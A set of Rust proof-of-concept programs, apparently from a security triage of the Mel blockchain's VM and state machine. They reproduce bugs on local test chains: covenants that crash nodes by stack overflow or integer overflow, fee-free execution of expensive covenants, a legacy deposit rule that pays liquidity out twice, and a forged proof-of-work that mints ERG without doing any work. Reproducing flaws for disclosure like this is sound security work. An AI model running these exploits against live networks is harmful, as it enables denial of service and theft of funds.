// whose body contains the next Loop.  n consecutive `Loop(0, 0xffff)` instructions (5 bytes each; the body of each is clipped to "everything after it")
// therefore recurse n deep BEFORE the exponential re-weighing of D7 costs anything: with n = 3000 (15 KB of covenant) the thread stack overflows and the
// process is aborted (SIGSEGV/SIGABRT: not a catchable panic).  `covenant_weight_from_bytes` is what `minimum_fee` calls for every covenant of every
// transaction before anything else is checked.   usage: exp_weighstack <n> [stack_bytes]   (default stack: 2 MiB, the size of a rayon worker's stack)
use melvm::opcode::OpCode;
use melvm::Covenant;
fn main() {
    let n: usize = std::env::args().nth(1).expect("n").parse().unwrap();
    let stack: usize = std::env::args().nth(2).map(|s| s.parse().unwrap()).unwrap_or(2 << 20);
    let ops: Vec<OpCode> = (0..n).map(|_| OpCode::Loop(0, 0xffff)).collect();
    let bytes = Covenant::from_ops(&ops).to_bytes();
    println!("n={n}: covenant of {} bytes, thread stack {} bytes, {} build", bytes.len(), stack, if cfg!(debug_assertions) { "debug" } else { "release" });
    let h = std::thread::Builder::new().stack_size(stack).spawn(move || {
        let t = std::time::Instant::now();
        let w = melvm::covenant_weight_from_bytes(&bytes);
        println!("n={n}: weight {} after {:?}", w, t.elapsed());
    }).unwrap();
    println!("n={n}: join: {:?}", h.join().map_err(|_| "PANICKED"));
}
