// "covenants are executed before the fee is checked":
// apply_tx_batch_impl runs check_tx_validity (which EXECUTES the covenants of the spent coins) for the whole batch before
// create_next_state compares tx.fee with the minimum fee tx.base_fee(multiplier, 0, weight). A fee-0 spend of a coin guarded by an
// expensive covenant is therefore executed to the end and only then rejected with InsufficientFees: the work is never paid for.
//
// heavy(k) = [PushI 0, Loop(k,3), Loop(65535,2), PushI 1, Add]   (counts to k*65535, leaves it on the stack => true for k>0)
// control  = Covenant::always_true()
use ethnum::U256;
use melstf::*;
use melstructs::*;
use melvm::{opcode::OpCode, Covenant};
use novasmt::{Database, InMemoryCas};
use std::collections::BTreeMap;
use std::time::Instant;

fn cd(covhash: Address, v: u128) -> CoinData {
    CoinData { covhash, value: CoinValue(v), denom: Denom::Mel, additional_data: vec![].into() }
}
fn heavy(k: u16) -> Covenant {
    Covenant::from_ops(&[
        OpCode::PushI(U256::from(0u8)),
        OpCode::Loop(k, 3),
        OpCode::Loop(65535, 2),
        OpCode::PushI(U256::from(1u8)),
        OpCode::Add,
    ])
}

fn run(label: &str, cov: &Covenant) -> (f64, bool) {
    let at = Covenant::always_true();
    let db = Database::new(InMemoryCas::default());
    let genesis = GenesisConfig {
        network: NetID::Custom02,
        init_coindata: cd(at.hash(), 1u128 << 100),
        stakes: BTreeMap::new(),
        init_fee_pool: CoinValue(0),
        init_fee_multiplier: 1_000_000,
    }
    .realize(&db);
    // work at height 1, so that last_header comes from history and not from the height-0 fallback
    let mut st = genesis.seal(None).next_unsealed();
    let multiplier = st.clone().seal(None).header().fee_multiplier;

    // fund a coin locked by the covenant's hash (this transaction pays its fee properly)
    const V: u128 = 1_000_000_000_000;
    let fund_fee: u128 = 1_000_000_000;
    let fund = Transaction {
        kind: TxKind::Normal,
        inputs: vec![CoinID::zero_zero()],
        outputs: vec![cd(cov.hash(), V), cd(at.hash(), (1u128 << 100) - V - fund_fee)],
        fee: CoinValue(fund_fee),
        covenants: vec![at.to_bytes()],
        data: vec![].into(),
        sigs: vec![],
    };
    let rf = st.apply_tx(&fund);
    assert!(rf.is_ok(), "funding failed: {:?}", rf);
    assert_eq!(st.clone().seal(None).coin(fund.output_coinid(0)).map(|c| c.coin_data.covhash), Some(cov.hash()));

    // the fee-0 spend
    let spend = |fee: u128| Transaction {
        kind: TxKind::Normal,
        inputs: vec![fund.output_coinid(0)],
        outputs: vec![cd(at.hash(), V - fee)],
        fee: CoinValue(fee),
        covenants: vec![cov.to_bytes()],
        data: vec![].into(),
        sigs: vec![],
    };
    let tx0 = spend(0);
    let expected_min = tx0.base_fee(multiplier, 0, |c| melvm::covenant_weight_from_bytes(c));

    // reference: bare execution of the covenant, outside the state machine
    let t = Instant::now();
    let bare = cov.execute(&tx0, None).map(|v| v.into_bool());
    let bare_t = t.elapsed();

    let before = st.clone().seal(None).header();
    let t = Instant::now();
    let r = st.apply_tx(&tx0);
    let el = t.elapsed();
    let after = st.clone().seal(None).header();
    // positive control: the same spend paying exactly the minimum fee (computed for the paying transaction itself) is accepted
    let paid = {
        let mut fee = expected_min.0;
        loop {
            let need = spend(fee).base_fee(multiplier, 0, |c| melvm::covenant_weight_from_bytes(c)).0;
            if need <= fee { break spend(fee); }
            fee = need;
        }
    };
    let mut st2 = st.clone();
    let t = Instant::now();
    let rp = st2.apply_tx(&paid);
    let elp = t.elapsed();
    println!("[{}]", label);
    println!("  covenant: {} bytes, weight {}", cov.to_bytes().len(), cov.weight());
    println!("  fee multiplier {}, minimum fee by tx.base_fee = {}", multiplier, expected_min);
    println!("  bare Covenant::execute           : {:?} in {:?}", bare, bare_t);
    println!("  apply_tx(spend with fee 0)       : {:?} in {:?}", r, el);
    println!("  state unchanged by the rejection : {}", before == after);
    println!("  apply_tx(same spend, fee {:>9}) : {:?} in {:?}", paid.fee.0, rp, elp);
    let insufficient = matches!(r, Err(StateError::InsufficientFees(_)));
    (el.as_secs_f64(), insufficient)
}

fn main() {
    let ks: Vec<u16> = {
        let a: Vec<u16> = std::env::args().skip(1).map(|a| a.parse().unwrap()).collect();
        if a.is_empty() { vec![16, 64, 128] } else { a }
    };
    let (t0, i0) = run("control: always_true", &Covenant::always_true());
    let mut rows = vec![];
    for k in ks {
        let (t, i) = run(&format!("heavy k={} ({} loop iterations)", k, k as u64 * 65535), &heavy(k));
        rows.push((k, t, i));
    }
    println!();
    println!("summary (elapsed time of the fee-0 apply_tx; result InsufficientFees?)");
    println!("  always_true : {:>10.6} s  InsufficientFees={}", t0, i0);
    for (k, t, i) in &rows {
        println!("  heavy k={:<4}: {:>10.6} s  InsufficientFees={}  ({:.1} us per unit of k)", k, t, i, t / (*k as f64) * 1e6);
    }
    let all_insufficient = i0 && rows.iter().all(|r| r.2);
    let scales = rows.windows(2).all(|w| w[1].1 > w[0].1 * 1.5) && rows.first().map(|r| r.1 > 10.0 * t0).unwrap_or(false);
    println!(
        "VERDICT: {}",
        if all_insufficient && scales {
            "CONFIRMED - every fee-0 spend ends in InsufficientFees, but only after the covenant has been run to the end (time grows with the loop count)"
        } else {
            "NOT REPRODUCED"
        }
    );
}
