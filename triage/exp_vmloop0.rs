// melvm: an inner loop with an EMPTY body (Loop(n,0)) as the last instruction of an outer loop body ends the outer loop early.
// A(n) = [PushI 0, Loop(3,3), PushI 1, Add, Loop(n,0), Noop, Noop]; the outer body (PushI 1, Add, Loop(n,0)) should run 3 times -> 3.
// Loop(n,0) at index 4 pushes LoopState{begin 5, end 4, iterations_left n-1}.  update_pc_state (run once per step) pops it: pc=5 > end=4 and
// pc-end == 1, so with n >= 2 it "iterates" (pc = begin = 5, i.e. nothing), pushes it back and BREAKS without looking at the outer loop.  The next
// step executes index 5 (outside the outer body); now pc=6, pc-end == 2, the inner state is discarded, and so is the outer one (begin 2, end 4,
// 2 iterations left) because pc - end != 1 is taken for a jump out of the loop.  With n == 1 the inner state is discarded at once and the outer
// loop is examined with pc=5, so it iterates properly.
use melvm::{opcode::OpCode::*, Covenant};
fn main() {
    for n in [1u16, 2, 3, 10] {
        let ops = [PushI(0u8.into()), Loop(3, 3), PushI(1u8.into()), Add, Loop(n, 0), Noop, Noop];
        let cov = Covenant::from_ops(&ops);
        println!("A({n}) = {:?}\n   weight {} -> {:?}   (expected Some(Int(3)))", ops, cov.weight(), cov.debug_execute(&[]));
    }
    // control: same outer loop with a Noop in place of the empty loop
    let ops = [PushI(0u8.into()), Loop(3, 3), PushI(1u8.into()), Add, Noop, Noop, Noop];
    println!("control {:?} -> {:?}", ops, Covenant::from_ops(&ops).debug_execute(&[]));
    // control: same with a zero-iteration empty loop
    let ops = [PushI(0u8.into()), Loop(3, 3), PushI(1u8.into()), Add, Loop(0, 0), Noop, Noop];
    println!("control {:?} -> {:?}", ops, Covenant::from_ops(&ops).debug_execute(&[]));
}
