use melstf::*;
use melstructs::*;
use melvm::{Covenant, opcode::OpCode};
use novasmt::{Database, InMemoryCas};
use std::collections::BTreeMap;
use stdcode::StdcodeSerializeExt;

fn genesis(cov: &Covenant) -> UnsealedState<InMemoryCas> {
    let db = Database::new(InMemoryCas::default());
    GenesisConfig {
        network: NetID::Custom02,
        init_coindata: CoinData { covhash: cov.hash(), value: CoinValue(1_000_000_000), denom: Denom::Mel, additional_data: vec![].into() },
        stakes: BTreeMap::new(), init_fee_pool: CoinValue(0), init_fee_multiplier: 0,
    }.realize(&db)
}
fn cdc(v: u128, d: Denom, c: &Covenant) -> CoinData { CoinData { covhash: c.hash(), value: CoinValue(v), denom: d, additional_data: vec![].into() } }
fn main() {
    let which = std::env::args().nth(1).unwrap();
    let t = Covenant::always_true();
    match which.as_str() {
        "cache" => {
            // covenant: spender_index == 0
            let only_first = Covenant::from_ops(&[OpCode::LoadImm(9), OpCode::PushI(0u32.into()), OpCode::Eql]);
            let mut g = genesis(&t).seal(None).next_unsealed();
            let split = Transaction { kind: TxKind::Normal, inputs: vec![CoinID::zero_zero()], outputs: vec![cdc(500_000_000, Denom::Mel, &only_first), cdc(500_000_000, Denom::Mel, &only_first)], fee: CoinValue(0), covenants: vec![t.to_bytes()], data: vec![].into(), sigs: vec![] };
            g.apply_tx(&split).unwrap();
            // spend second coin alone at index 0 -> ok; spend as index 1 alone should fail
            let spend_idx1_only = Transaction { kind: TxKind::Normal, inputs: vec![split.output_coinid(1)], outputs: vec![cdc(500_000_000, Denom::Mel, &t)], fee: CoinValue(0), covenants: vec![only_first.to_bytes()], data: vec![].into(), sigs: vec![] };
            println!("single input idx0: {:?}", g.clone().apply_tx(&spend_idx1_only));
            let both = Transaction { kind: TxKind::Normal, inputs: vec![split.output_coinid(0), split.output_coinid(1)], outputs: vec![cdc(1_000_000_000, Denom::Mel, &t)], fee: CoinValue(0), covenants: vec![only_first.to_bytes()], data: vec![].into(), sigs: vec![] };
            println!("two inputs same covenant (2nd has index 1, covenant demands index 0): {:?}", g.clone().apply_tx(&both));
        }
        "btoi" => {
            let n: usize = std::env::args().nth(2).unwrap().parse().unwrap();
            let mut ops = vec![OpCode::PushB(vec![0u8; 32])];
            for _ in 0..n { ops.push(OpCode::Dup); ops.push(OpCode::BAppend); }
            ops.push(if std::env::var("ALT").is_ok() { OpCode::BLength } else { OpCode::BtoI });
            let c = Covenant::from_ops(&ops);
            let st = std::time::Instant::now();
            let r = c.debug_execute(&[]);
            println!("n={} weight={} result={:?} time={:?}", n, c.weight(), r.is_some(), st.elapsed());
        }
        "powempty" => {
            let mut g = genesis(&t).seal(None).next_unsealed();
            g = g.seal(None).next_unsealed();
            let data = (5u32, Vec::<u8>::new()).stdcode();
            let m = Transaction { kind: TxKind::DoscMint, inputs: vec![CoinID::zero_zero()], outputs: vec![cdc(1_000_000_000, Denom::Mel, &t)], fee: CoinValue(0), covenants: vec![t.to_bytes()], data: data.into(), sigs: vec![] };
            println!("{:?}", g.apply_tx(&m));
        }
        "powdiff" => {
            let mut g = genesis(&t).seal(None).next_unsealed();
            g = g.seal(None).next_unsealed();
            let data = (70u32, vec![0u8; 40]).stdcode();
            let m = Transaction { kind: TxKind::DoscMint, inputs: vec![CoinID::zero_zero()], outputs: vec![cdc(1_000_000_000, Denom::Mel, &t)], fee: CoinValue(0), covenants: vec![t.to_bytes()], data: data.into(), sigs: vec![] };
            println!("{:?}", g.apply_tx(&m));
        }
        "depzero" => {
            let mut g = genesis(&t).seal(None).next_unsealed();
            let m = Transaction { kind: TxKind::LiqDeposit, inputs: vec![CoinID::zero_zero()], outputs: vec![cdc(0, Denom::Mel, &t), cdc(0, Denom::Sym, &t), cdc(1_000_000_000, Denom::Mel, &t)], fee: CoinValue(0), covenants: vec![t.to_bytes()], data: Denom::Sym.to_bytes(), sigs: vec![] };
            println!("{:?}", g.apply_tx(&m));
            let _ = g.seal(None); println!("sealed");
        }
        _ => {}
    }
}
