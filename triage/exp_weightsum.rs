// D18: melstructs::Transaction::weight sums the covenant weights with `.sum()` (plain +); melvm saturates a covenant's weight at u128::MAX,
// so [heavy covenant, small covenant] overflows: panic with overflow checks, a wrapped (tiny) weight and fee without.
use melstf::*;
use melstructs::*;
use melvm::{Covenant, opcode::OpCode};
use novasmt::{Database, InMemoryCas};
use std::collections::BTreeMap;
fn cd(v: u128, d: Denom) -> CoinData { CoinData { covhash: Covenant::always_true().hash(), value: CoinValue(v), denom: d, additional_data: vec![].into() } }
fn main() {
    let mut ops = vec![];
    for k in (2..=10u16).rev() { ops.push(OpCode::Loop(65535, k)); }
    ops.push(OpCode::Noop); ops.push(OpCode::Noop);
    let heavy = Covenant::from_ops(&ops);
    println!("heavy covenant: {} bytes, weight {}", heavy.to_bytes().len(), heavy.weight());
    let small = Covenant::always_true();
    println!("small covenant weight {}", small.weight());
    let db = Database::new(InMemoryCas::default());
    let mut g = GenesisConfig { network: NetID::Custom02, init_coindata: cd(1_000_000_000, Denom::Mel), stakes: BTreeMap::new(), init_fee_pool: CoinValue(0), init_fee_multiplier: 1 << 16 }.realize(&db).seal(None).next_unsealed();
    let mk = |covs: Vec<Vec<u8>>, fee: u128| Transaction { kind: TxKind::Normal, inputs: vec![CoinID::zero_zero()], outputs: vec![cd(1_000_000_000 - fee, Denom::Mel)], fee: CoinValue(fee), covenants: covs.into_iter().map(|c| c.into()).collect(), data: vec![].into(), sigs: vec![] };
    let one = mk(vec![small.to_bytes().to_vec(), heavy.to_bytes().to_vec()], 100_000);
    let r = std::panic::catch_unwind(|| one.base_fee(1 << 16, 0, |c| melvm::covenant_weight_from_bytes(c)));
    println!("base fee of a 100-byte transaction carrying [always_true, heavy]: {:?}", r.map_err(|_| "PANICKED"));
    let alone = mk(vec![heavy.to_bytes().to_vec()], 100_000);
    println!("base fee with the heavy covenant alone: {:?}", alone.base_fee(1 << 16, 0, |c| melvm::covenant_weight_from_bytes(c)));
    let r = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| g.apply_tx(&one)));
    println!("apply_tx (fee 100000): {:?}", r.map_err(|_| "PANICKED"));
}
