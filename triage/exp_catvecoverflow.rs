// D32: doubling a byte string 64 times overflows the length bookkeeping of catvec (a 9-byte covenant of weight ~1000 panics)
use melvm::{opcode::OpCode, Covenant};
fn main() {
    let n: u16 = std::env::args().nth(1).map(|a| a.parse().unwrap()).unwrap_or(70);
    let ops = vec![OpCode::PushB(vec![1]), OpCode::Loop(n, 2), OpCode::Dup, OpCode::BAppend];
    let cov = Covenant::from_ops(&ops);
    println!("covenant {} bytes, weight {}", cov.to_bytes().len(), cov.weight());
    let r = std::panic::catch_unwind(|| cov.debug_execute(&[]).map(|v| format!("{:?}", v).len()));
    println!("n={} -> {:?}", n, r.map_err(|e| e.downcast_ref::<String>().cloned().or(e.downcast_ref::<&str>().map(|s| s.to_string()))));
}
