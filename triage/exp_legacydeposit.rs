// process_deposits_for_single_pool (src/state/melmint.rs): on Mainnet/Testnet below height 978392 the "old rules" remove
// `deposit.output_coinid(1)` where `deposit` is the transaction AFTER its output 0 was rewritten into the liquidity token, i.e. a coin id
// under a different transaction hash that does not exist. The right-hand coin of the ORIGINAL transaction is therefore credited to the pool
// but stays unspent in the coin tree. Withdrawing the liquidity afterwards pays the right-hand amount out a second time.
// Run on a fresh Testnet genesis (height 1..4, far below 978392) and, as a control, on Custom02 (new rules).
use melstf::*;
use melstructs::*;
use melvm::Covenant;
use novasmt::{Database, InMemoryCas};
use std::collections::BTreeMap;
fn cd(v: u128, d: Denom) -> CoinData { CoinData { covhash: Covenant::always_true().hash(), value: CoinValue(v), denom: d, additional_data: vec![].into() } }
fn tx(kind: TxKind, inputs: Vec<CoinID>, outputs: Vec<CoinData>, fee: u128, data: Vec<u8>) -> Transaction {
    Transaction { kind, inputs, outputs, fee: CoinValue(fee), covenants: vec![Covenant::always_true().to_bytes()], data: data.into(), sigs: vec![] }
}
/// total of `d` = unspent coins among all coin ids this program ever created + the pool's reserve of that side
fn total(s: &SealedState<InMemoryCas>, known: &[CoinID], pk: PoolKey, d: Denom) -> (u128, u128) {
    let coins: u128 = known.iter().filter_map(|id| s.coin(*id)).filter(|c| c.coin_data.denom == d).map(|c| c.coin_data.value.0).sum();
    let reserve = s.pool(pk).map(|p| if d == pk.left() { p.lefts } else if d == pk.right() { p.rights } else { 0 }).unwrap_or(0);
    (coins, reserve)
}
fn report(label: &str, s: &SealedState<InMemoryCas>, known: &[CoinID], pk: PoolKey) {
    let (lc, lr) = total(s, known, pk, pk.left());
    let (rc, rr) = total(s, known, pk, pk.right());
    println!("  TOTALS {label}: left-hand denom: coins {lc} + reserve {lr} = {};   right-hand denom: coins {rc} + reserve {rr} = {}", lc + lr, rc + rr);
}
fn coin(s: &SealedState<InMemoryCas>, id: CoinID) -> String {
    match s.coin(id) { Some(c) => format!("{} of {}", c.coin_data.value.0, name(c.coin_data.denom)), None => "None".into() }
}
fn name(d: Denom) -> String { match d { Denom::Custom(h) => format!("Custom({}..)", &h.to_string()[..8]), o => format!("{:?}", o) } }

fn run(net: NetID, mel_on_right: bool) {
    println!("=== network {:?}, pool MEL/token with MEL as the {}-hand side ===", net, if mel_on_right { "right" } else { "left" });
    let db = Database::new(InMemoryCas::default());
    let g = GenesisConfig { network: net, init_coindata: cd(1_000_000, Denom::Mel), stakes: BTreeMap::new(), init_fee_pool: CoinValue(0), init_fee_multiplier: 0 }.realize(&db);
    let s0 = g.seal(None);
    // block 1: create a token; pick the nonce so that the token sorts on the wanted side of MEL
    let mut nonce = 0u8;
    let nc = loop {
        let t = tx(TxKind::Normal, vec![CoinID::zero_zero()], vec![cd(600_000, Denom::Mel), cd(400_000, Denom::NewCustom), cd(399_900, Denom::Mel), cd(100, Denom::Mel)], 0, vec![nonce]);
        if (PoolKey::new(Denom::Mel, Denom::Custom(t.hash_nosigs())).right() == Denom::Mel) == mel_on_right { break t; }
        nonce += 1;
    };
    let token = Denom::Custom(nc.hash_nosigs());
    let pk = PoolKey::new(Denom::Mel, token);
    let mut known = vec![CoinID::zero_zero(), nc.output_coinid(0), nc.output_coinid(1), nc.output_coinid(2), nc.output_coinid(3)];
    let mut u = s0.next_unsealed();
    println!("block 1: genesis 1_000_000 MEL -> [600_000 MEL, 400_000 new token, 399_900 MEL, 100 MEL]: {:?}", u.apply_tx(&nc));
    let s1 = u.seal(None);
    println!("  pool key: left {} right {}", name(pk.left()), name(pk.right()));
    report("before the deposit", &s1, &known, pk);
    // block 2: deposit 600_000 MEL and 400_000 token
    let amt = |d: Denom| if d == Denom::Mel { 600_000 } else { 400_000 };
    let (l, r) = (amt(pk.left()), amt(pk.right()));
    let dep = tx(TxKind::LiqDeposit, vec![nc.output_coinid(0), nc.output_coinid(1)], vec![cd(l, pk.left()), cd(r, pk.right())], 0, pk.to_bytes().to_vec());
    known.extend([dep.output_coinid(0), dep.output_coinid(1)]);
    let mut u = s1.next_unsealed();
    println!("block 2: LiqDeposit L = {l} of {}, R = {r} of {}: {:?}", name(pk.left()), name(pk.right()), u.apply_tx(&dep));
    let s2 = u.seal(None);
    println!("block 2 sealed (height {}): pool = {:?}", s2.header().height, s2.pool(pk));
    println!("  deposit output 0 = {}   (liquidity token = {})", coin(&s2, dep.output_coinid(0)), name(pk.liq_token_denom()));
    println!("  deposit output 1 = {}", coin(&s2, dep.output_coinid(1)));
    report("after the deposit", &s2, &known, pk);
    // block 3: withdraw all the liquidity
    let liq = s2.coin(dep.output_coinid(0)).unwrap().coin_data;
    // a LiqWithdraw must have exactly one output, and the MEL side of the balance check needs a MEL input: the 100 MEL coin is paid as the fee
    let w = tx(TxKind::LiqWithdraw, vec![dep.output_coinid(0), nc.output_coinid(3)], vec![liq], 100, pk.to_bytes().to_vec());
    known.extend([w.output_coinid(0), w.output_coinid(1)]);
    let mut u = s2.next_unsealed();
    println!("block 3: LiqWithdraw of all liquidity tokens (100 MEL paid as fee, which leaves the coins we track): {:?}", u.apply_tx(&w));
    let s3 = u.seal(None);
    println!("block 3 sealed: pool = {:?}", s3.pool(pk));
    println!("  withdrawal output 0 = {}; output 1 = {}; deposit output 1 = {}", coin(&s3, w.output_coinid(0)), coin(&s3, w.output_coinid(1)), coin(&s3, dep.output_coinid(1)));
    report("after the withdrawal", &s3, &known, pk);
    // block 4: both right-hand coins are spendable: merge them into one
    let mut u = s3.next_unsealed();
    // (the 399_900 MEL coin is passed through only because every transaction needs a MEL input for the MEL/fee side of the balance check)
    let m = tx(TxKind::Normal, vec![dep.output_coinid(1), w.output_coinid(1), nc.output_coinid(2)], vec![cd(2 * r, pk.right()), cd(399_900, Denom::Mel)], 0, vec![]);
    known.extend([m.output_coinid(0), m.output_coinid(1)]);
    let res = u.apply_tx(&m);
    println!("block 4: merge deposit output 1 and withdrawal output 1 into one coin of {} {}: {:?}", 2 * r, name(pk.right()), res);
    let s4 = u.seal(None);
    println!("  merged coin = {}", coin(&s4, m.output_coinid(0)));
    report("at the end", &s4, &known, pk);
}
fn main() {
    run(NetID::Testnet, true);
    run(NetID::Testnet, false);
    run(NetID::Custom02, true);
}
