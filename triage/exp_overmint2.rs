// D16 on a user pool: two equal deposits create the pool in one block; both depositors then withdraw everything in one block.
use melstf::*;
use melstructs::*;
use melvm::Covenant;
use novasmt::{Database, InMemoryCas};
use std::collections::BTreeMap;
fn genesis() -> UnsealedState<InMemoryCas> {
    let db = Database::new(InMemoryCas::default());
    GenesisConfig { network: NetID::Custom02, init_coindata: cd(1_000_000_000, Denom::Mel), stakes: BTreeMap::new(), init_fee_pool: CoinValue(0), init_fee_multiplier: 0 }.realize(&db)
}
fn cd(v: u128, d: Denom) -> CoinData { CoinData { covhash: Covenant::always_true().hash(), value: CoinValue(v), denom: d, additional_data: vec![].into() } }
fn tx(kind: TxKind, inputs: Vec<CoinID>, outputs: Vec<CoinData>, fee: u128, data: Vec<u8>) -> Transaction {
    Transaction { kind, inputs, outputs, fee: CoinValue(fee), covenants: vec![Covenant::always_true().to_bytes()], data: data.into(), sigs: vec![] }
}
fn main() {
    let mut g = genesis().seal(None).next_unsealed();
    let f = tx(TxKind::Faucet, vec![], vec![cd(2_000_000, Denom::Mel), cd(10, Denom::Mel), cd(10, Denom::Mel)], 0, vec![7]);
    g.apply_tx(&f).unwrap();
    let nc = tx(TxKind::Normal, vec![f.output_coinid(0)], vec![cd(1_000_000, Denom::Mel), cd(1_000_000, Denom::Mel), cd(1_000_000, Denom::NewCustom), cd(1_000_000, Denom::NewCustom)], 0, vec![]);
    g.apply_tx(&nc).unwrap();
    let s0 = g.seal(None);
    let cust = Denom::Custom(nc.hash_nosigs());
    let pk = PoolKey::new(Denom::Mel, cust);
    let mel_first = pk.left() == Denom::Mel;
    let mut g1 = s0.next_unsealed();
    let mut deps = vec![];
    for i in 0..2u8 {
        let (a, b) = if mel_first { (nc.output_coinid(i), nc.output_coinid(2 + i)) } else { (nc.output_coinid(2 + i), nc.output_coinid(i)) };
        let d = tx(TxKind::LiqDeposit, vec![a, b], vec![cd(1_000_000, pk.left()), cd(1_000_000, pk.right())], 0, pk.to_bytes().to_vec());
        g1.apply_tx(&d).unwrap();
        deps.push(d);
    }
    let s1 = g1.seal(None);
    let p = s1.pool(pk).unwrap();
    let held: Vec<u128> = deps.iter().map(|d| s1.coin(d.output_coinid(0)).unwrap().coin_data.value.0).collect();
    println!("new pool: lefts {} rights {} liqs {}; liquidity tokens held by the two depositors: {:?} (sum {})", p.lefts, p.rights, p.liqs, held, held.iter().sum::<u128>());
    let mut g2 = s1.next_unsealed();
    for (i, d) in deps.iter().enumerate() {
        let c = s1.coin(d.output_coinid(0)).unwrap().coin_data;
        let w = tx(TxKind::LiqWithdraw, vec![d.output_coinid(0), f.output_coinid(1 + i as u8)], vec![c], 10, pk.to_bytes().to_vec());
        println!("withdraw {} accepted: {:?}", i, g2.apply_tx(&w));
    }
    println!("sealing the block with both withdrawals ...");
    let s2 = g2.seal(None);
    println!("sealed; pool now {:?}", s2.pool(pk));
}
