//! UNCHANGED-TREE reproduction: melpow 0.1.2's `Proof::verify` never compares the recomputed Merkle-like
//! commitment with the proof's root (`phi != self.0[&Node::new_zero()]` compares the root with itself), so a
//! "proof" for any difficulty can be written down with ~200 hashes and no sequential work at all.

use std::collections::HashMap;

use melpow::HashFunction;
use melstf::{GenesisConfig, LegacyMelPowHash};
use melstructs::{CoinData, CoinID, CoinValue, Denom, NetID, Transaction, TxKind};
use melvm::Covenant;
use novasmt::{Database, InMemoryCas};

#[derive(Clone, Copy, PartialEq, Eq, Hash)]
struct Node {
    bv: u64,
    len: usize,
}
impl Node {
    fn take(self, n: usize) -> Node {
        Node { bv: self.bv & ((1u64 << n) - 1), len: n }
    }
    fn append(self, b: u64) -> Node {
        Node { bv: self.bv | (b << self.len), len: self.len + 1 }
    }
    fn bytes(self) -> [u8; 8] {
        (((self.len as u64) << 56) | self.bv).to_be_bytes()
    }
}

fn forge(puzzle: &[u8], d: usize) -> Vec<u8> {
    let chi = tmelcrypt::hash_keyed(b"chi", puzzle);
    let mut gammas: Vec<Node> = (0..200)
        .map(|i| {
            let seed = tmelcrypt::hash_keyed(format!("gamma-{}", i).as_bytes(), puzzle);
            let g = u64::from_le_bytes(seed[0..8].try_into().unwrap());
            let shift = 64 - d;
            Node { bv: ((g >> shift) << shift).reverse_bits(), len: d }
        })
        .collect();
    // leaves ending in 0 have only inner nodes as parents; leaves ending in 1 also have their sibling leaf
    gammas.sort_by_key(|g| (g.bv >> (d - 1)) & 1);
    let mut map: HashMap<Node, Vec<u8>> = HashMap::new();
    let filler = vec![7u8; 32];
    map.insert(Node { bv: 0, len: 0 }, filler.clone());
    for g in &gammas {
        for i in 0..d {
            map.entry(g.take(i).append(0)).or_insert_with(|| filler.clone());
            map.entry(g.take(i).append(1)).or_insert_with(|| filler.clone());
        }
    }
    for g in &gammas {
        let mut acc = Vec::new();
        let mut add = |b: &[u8]| {
            acc.extend_from_slice(&(b.len() as u64).to_be_bytes());
            acc.extend_from_slice(b);
        };
        add(&g.bytes());
        for i in 0..d {
            if (g.bv >> i) & 1 != 0 {
                add(&map[&g.take(i).append(0)].clone());
            }
        }
        map.insert(*g, LegacyMelPowHash.hash(&acc, &chi).to_vec());
    }
    let mut out = Vec::new();
    for (k, v) in map {
        out.extend_from_slice(&k.bytes());
        out.extend_from_slice(&v);
    }
    out
}

#[test]
fn erg_minted_without_sequential_work() {
    let db = Database::new(InMemoryCas::default());
    let start = 1_000_000_000_000u128;
    let sealed = GenesisConfig {
        network: NetID::Custom02,
        init_coindata: CoinData {
            covhash: Covenant::always_true().hash(),
            value: CoinValue(start),
            denom: Denom::Mel,
            additional_data: Default::default(),
        },
        stakes: Default::default(),
        init_fee_pool: CoinValue(0),
        init_fee_multiplier: 1,
    }
    .realize(&db)
    .seal(None);
    let mut state = sealed.next_unsealed();
    let coin = CoinID::zero_zero();
    let puzzle = tmelcrypt::hash_keyed(sealed.header().hash(), &stdcode::serialize(&coin).unwrap());

    let d = 50u32; // 2^50 sequential hashes claimed, none done
    let t = std::time::Instant::now();
    let proof = forge(&puzzle, d as usize);
    eprintln!("forged a difficulty-{} proof in {:?} ({} bytes)", d, t.elapsed(), proof.len());

    let speed = 2u128.pow(d);
    let erg = melstf::dosc_to_erg(1.into(), melstf::calculate_reward(speed, sealed.header().dosc_speed, d, false));
    eprintln!("minting {} micro-ERG", erg);
    let fee = 100_000_000u128;
    let tx = Transaction {
        kind: TxKind::DoscMint,
        inputs: vec![coin],
        outputs: vec![
            CoinData { covhash: Covenant::always_true().hash(), value: CoinValue(start - fee), denom: Denom::Mel, additional_data: Default::default() },
            CoinData { covhash: Covenant::always_true().hash(), value: CoinValue(erg), denom: Denom::Erg, additional_data: Default::default() },
        ],
        fee: CoinValue(fee),
        covenants: vec![Covenant::always_true().to_bytes()],
        data: stdcode::serialize(&(d, proof)).unwrap().into(),
        sigs: vec![],
    };
    let res = state.apply_tx(&tx);
    eprintln!("apply_tx -> {:?}", res);
    assert!(res.is_ok());
    let after = state.seal(None);
    eprintln!("dosc_speed now {}", after.header().dosc_speed);
    assert_eq!(after.coin(CoinID::new(tx.hash_nosigs(), 1)).unwrap().coin_data.value, CoinValue(erg));
}

#[test]
fn empty_proof_panics() {
    let db = Database::new(InMemoryCas::default());
    let start = 1_000_000_000_000u128;
    let sealed = GenesisConfig {
        network: NetID::Custom02,
        init_coindata: CoinData { covhash: Covenant::always_true().hash(), value: CoinValue(start), denom: Denom::Mel, additional_data: Default::default() },
        stakes: Default::default(),
        init_fee_pool: CoinValue(0),
        init_fee_multiplier: 1,
    }
    .realize(&db)
    .seal(None);
    let state = sealed.next_unsealed();
    let fee = 100_000u128;
    let tx = Transaction {
        kind: TxKind::DoscMint,
        inputs: vec![CoinID::zero_zero()],
        outputs: vec![CoinData { covhash: Covenant::always_true().hash(), value: CoinValue(start - fee), denom: Denom::Mel, additional_data: Default::default() }],
        fee: CoinValue(fee),
        covenants: vec![Covenant::always_true().to_bytes()],
        data: stdcode::serialize(&(10u32, Vec::<u8>::new())).unwrap().into(),
        sigs: vec![],
    };
    let r = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| state.clone().apply_tx(&tx)));
    eprintln!("empty proof -> {:?}", r.as_ref().map_err(|_| "PANIC"));
    assert!(r.is_err(), "expected the known panic");
}
