// melvm: the "loop not nested properly" check is only made when iterations > 0; a zero-iteration inner loop that sticks out of the enclosing loop
// is accepted, and its skip (pc += op_count) jumps past the outer loop's end, which ends the outer loop after one pass.
